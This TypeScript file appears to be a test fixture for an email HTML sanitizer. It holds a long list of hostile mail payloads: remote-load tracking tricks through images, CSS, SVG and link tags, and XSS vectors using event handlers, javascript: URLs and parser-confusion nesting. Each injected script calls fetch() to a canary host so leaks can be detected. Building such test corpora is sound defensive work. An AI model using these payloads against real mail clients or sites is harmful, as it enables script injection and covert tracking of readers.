/**
 * What a hostile mail tries in its HTML. `{u}` is an address at the canary by name, `{i}` the same by number, `{h}` its host and
 * port, `{js}` a script that says it ran and calls home. Some words stand in a paragraph before each.
 */
const LOADS = `
<img src="{u}">
<img src="{i}">
<img src=//{h}/x>
<img/src={u}>
<image src="{u}">
<img srcset="{u} 1x, {u}b 2x">
<img src=data:, srcset="{u} 1x">
<picture><source srcset="{u}"><img src=data:,></picture>
<picture><source media="(min-width:1px)" srcset="{u}"><img></picture>
<img crossorigin fetchpriority=high loading=eager src="{u}">
<img src="{u}" width=1 height=1 style="position:absolute;left:-9px">
<input type=image src="{u}">
<video poster="{u}"></video>
<video src="{u}" autoplay muted></video>
<video autoplay><source src="{u}"></video>
<video preload=auto><track default src="{u}"></video>
<audio src="{u}" preload=auto></audio>
<audio preload=auto><source src="{i}"></audio>
<body background="{u}">
<table background="{u}"><tr><td>a</table>
<table><tr><td background="{u}">a</table>
<table><tr background="{u}"><th background="{i}">a</table>
<iframe src="{u}"></iframe>
<iframe src="{i}"></iframe>
<iframe srcdoc="<img src='{u}'>"></iframe>
<iframe srcdoc="<iframe src='{u}'></iframe>"></iframe>
<iframe srcdoc="<link rel=stylesheet href='{u}'>"></iframe>
<iframe srcdoc="<meta http-equiv=refresh content='0;url={u}'>"></iframe>
<iframe src="data:text/html,<img src='{u}'>"></iframe>
<iframe src="data:text/html;base64,{b64img}"></iframe>
<object data="{u}"></object>
<object data="{u}" type="text/html"></object>
<object data="data:text/html,<img src='{u}'>"></object>
<object><param name=src value="{u}"><embed src="{u}"></object>
<embed src="{u}">
<embed src="{u}" type="image/svg+xml">
<link rel=stylesheet href="{u}">
<link rel="alternate stylesheet" href="{u}">
<link rel=preload as=image href="{u}">
<link rel=preload as=image imagesrcset="{u} 1x">
<link rel=preload as=font crossorigin href="{u}">
<link rel=prefetch href="{u}">
<link rel=preconnect href="{u}">
<link rel=preconnect crossorigin href="{i}">
<link rel=dns-prefetch href="//{h}">
<link rel=modulepreload href="{u}">
<link rel=icon href="{u}">
<link rel=manifest href="{u}">
<link rel=prerender href="{u}">
<link rel=compression-dictionary href="{u}">
<style>@import url("{u}");</style>
<style>@import "{u}";</style>
<style>body{background:url("{u}")}</style>
<style>*{background-image:url({i})}</style>
<style>p{background:image-set("{u}" 1x)}</style>
<style>p{background:-webkit-image-set(url("{u}") 1x)}</style>
<style>p::before{content:url("{u}")}</style>
<style>li{list-style-image:url("{u}")}</style><ul><li>a</ul>
<style>p{border-image:url("{u}") 30 round;border-width:3px;border-style:solid}</style>
<style>p{cursor:url("{u}"),auto}</style>
<style>p{mask-image:url("{u}")}</style>
<style>p{-webkit-mask:url("{u}")}</style>
<style>p{shape-outside:url("{u}");float:left}</style>
<style>p{filter:url("{u}#f")}</style>
<style>p{clip-path:url("{u}#c")}</style>
<style>@font-face{font-family:z;src:url("{u}")}p{font-family:z}</style>
<style>@font-face{font-family:y;src:url("{u}");unicode-range:U+41-7A}p{font-family:y}</style>
<style>@media screen{p{background:url("{u}")}}</style>
<style>@supports(display:block){p{background:url("{u}")}}</style>
<style>@layer a{p{background:url("{u}")}}</style>
<style>p{--a:url("{u}");background:var(--a)}</style>
<style>p{background:u\\72l("{u}")}</style>
<style>p{background:cross-fade(url("{u}"),url("{u}b"),50%)}</style>
<style>p:first-letter{background:url("{u}")}</style>
<style>[lang]{background:url("{u}")}</style><p lang=a>a
<p style="background:url({u})">a</p>
<p style="background-image:url('{i}')">a</p>
<p style="list-style-image:url({u});display:list-item">a</p>
<p style="content:url({u})">a</p>
<p style="border-image-source:url({u});border:3px solid">a</p>
<p style="background:image-set('{u}' 1x)">a</p>
<p style="mask-image:url({u})">a</p>
<p style="/*x*/background/**/:url({u})">a</p>
<p style="background:\\75rl({u})">a</p>
<div style="width:9px;height:9px;background:url(&quot;{u}&quot;)"></div>
<svg><image href="{u}" width=9 height=9></svg>
<svg><image xlink:href="{u}" width=9 height=9></svg>
<svg><feImage href="{u}"></svg>
<svg><filter id=f><feImage href="{u}"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>
<svg><style>@import "{u}";</style></svg>
<svg><style>rect{fill:url("{u}#a")}</style><rect width=9 height=9></svg>
<svg><rect width=9 height=9 fill="url({u}#a)"></svg>
<svg><rect width=9 height=9 mask="url({u}#a)"></svg>
<svg><use href="{u}#a"></svg>
<svg><foreignObject width=9 height=9><img src="{u}"></foreignObject></svg>
<svg><foreignObject><iframe src="{u}"></iframe></foreignObject></svg>
<svg><desc><img src="{u}"></desc></svg>
<svg><title><img src="{u}"></title></svg>
<math><mtext><img src="{u}"></mtext></math>
<math><annotation-xml encoding="text/html"><img src="{u}"></annotation-xml></math>
<math><mglyph src="{u}">
<meta http-equiv=refresh content="0;url={u}">
<meta http-equiv="Link" content="<{u}>; rel=stylesheet">
<base href="http://{h}/"><img src="{n}">
<frameset><frame src="{u}"></frameset>
<div><template shadowrootmode=open><img src="{u}"></template></div>
<template><img src="{u}"></template>
<noscript><img src="{u}"></noscript>
<noscript><p title="</noscript><img src='{u}'>">
<!--[if gte mso 9]><img src="{u}"><![endif]-->
<!--><img src="{u}">-->
<!--!><img src="{u}"><!-->
<?xml-stylesheet href="{u}"?><img src="{u}">
<![CDATA[><img src="{u}">]]>
<xmp><p id="</xmp><img src='{u}'>"></xmp>
<title><p id="</title><img src='{u}'>"></title>
<textarea><p id="</textarea><img src='{u}'>"></textarea>
<select><template><img src="{u}"></template></select>
<bgsound src="{u}">
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{u}"]}]}</script>
<img src=data:, attributionsrc="{u}">
<img src="&#104;ttp://{h}/{n}">
<img src="  \thttp://{h}/{n}">
<img src="ht&Tab;tp://{h}/{n}">
<img src="http:\\\\{h}\\{n}">
<a href="{u}" ping="{u}" autofocus onfocus="{js}" tabindex=1>a</a>`

const RUNS = `
<img src=x: onerror="{js}">
<img src=x: oNeRrOr="{js}">
<img/src=x:/onerror="{js}">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="{js}">
<svg onload="{js}"></svg>
<svg><script>{js}</script></svg>
<svg><animate onbegin="{js}" attributeName=x dur=1s></svg>
<svg><set onbegin="{js}" attributeName=x to=1></svg>
<svg><a><animate attributeName=href values="javascript:{js}"/><text y=9>a</text></a></svg>
<script>{js}</script>
<script src="{u}"></script>
<script type=module>{js}</script>
<iframe src="javascript:{js}"></iframe>
<iframe onload="{js}"></iframe>
<iframe srcdoc="<script>{js}</script>"></iframe>
<iframe srcdoc="<svg onload='{js}'>"></iframe>
<object data="javascript:{js}"></object>
<object data="x:" onerror="{js}"></object>
<embed src="javascript:{js}">
<video onerror="{js}"><source src=x:></video>
<video src=x: onerror="{js}"></video>
<audio src=x: onerror="{js}"></audio>
<input autofocus onfocus="{js}">
<select autofocus onfocus="{js}"></select>
<textarea autofocus onfocus="{js}"></textarea>
<button autofocus onfocus="{js}">a</button>
<details open ontoggle="{js}"><summary>a</details>
<div contenteditable autofocus onfocus="{js}">a</div>
<p tabindex=1 autofocus onfocusin="{js}">a</p>
<body onload="{js}">
<body onpageshow="{js}">
<style onload="{js}">p{}</style>
<link rel=stylesheet href="data:text/css,p{}" onload="{js}">
<p style="animation:a 1s" onanimationstart="{js}"><style>@keyframes a{}</style>a</p>
<p style="transition:color 9ms" ontransitionend="{js}">a</p>
<marquee onstart="{js}">a</marquee>
<math><maction actiontype="statusline#" xlink:href="javascript:{js}">a</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror="{js}">
<svg></p><style><a id="</style><img src=x: onerror='{js}'>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror='{js}'&gt;">
<svg><use href="data:image/svg+xml;base64,{b64svg}#x"></svg>
<svg><use href="data:image/s vg+xml;base64,{b64svg}#x"></svg>
<form id=f action="javascript:{js}"><button autofocus formaction="javascript:{js}">a</button></form>
<a href="javascript:{js}">a</a>
<a href="jav&#x09;ascript:{js}">a</a>
<a href="data:text/html,<script>{js}</script>">a</a>
<div id=body name=forms><a id=cookie name=domain>a</a><img name=getElementById src=x: onerror="{js}"></div>
<p id="</p><img src=x: onerror='{js}'>">a</p>
<x onclick="{js}" onpointerrawupdate="{js}" style="position:fixed;inset:0">a</x>
<img src=x: onerror=&#99;onsole.log(\`bw-ran-{n}\`)>
<listing>&lt;img onerror="{js}" src=x:&gt;</listing>
<img src="x:" alt="\`" onerror="{js}">`

const lines = (text: string) => text.trim().split('\n')
const base64 = (text: string) => Buffer.from(text).toString('base64')

export type Payload = { n: number; html: string }

/** What a script of payload `n` says in the console when it runs. */
export const SAYS = 'bw-ran-'
/** A mail holds these words in front of its payload. */
export const wordsOf = (n: number) => `Readable words ${n}.`

// a few of each kind, most of which a careless reader lets through
const FIRST = 3

/**
 * The payloads, each with addresses of its own.
 * @param count how many, spread over all kinds; default all
 * @param port of the canary on this machine
 */
export function payloads(port: number, count?: number): Payload[] {
  const all = [...lines(LOADS), ...lines(RUNS)]
  const step = count === undefined ? 1 : all.length / count
  return all
    .map((html, n) => ({ n, html: filled(html, n, port) }))
    .filter(({ n }) => Math.floor((n + FIRST) / step) !== Math.floor((n + FIRST - 1) / step))
}

function filled(html: string, n: number, port: number): string {
  const host = `p${n}.canary.example:${port}`
  const url = `http://${host}/${n}`
  const script = `console.log(\`${SAYS}${n}\`),fetch(\`${url}s\`)`
  const given: Record<string, string> = {
    u: url,
    i: `http://127.0.0.1:${port}/${n}`,
    h: host,
    n: String(n),
    js: script,
    b64img: base64(`<img src="${url}">`),
    b64svg: base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="${url}"/></svg>`),
  }
  return html.replace(/\{(\w+)\}/g, (whole, name: string) => given[name] ?? whole)
}
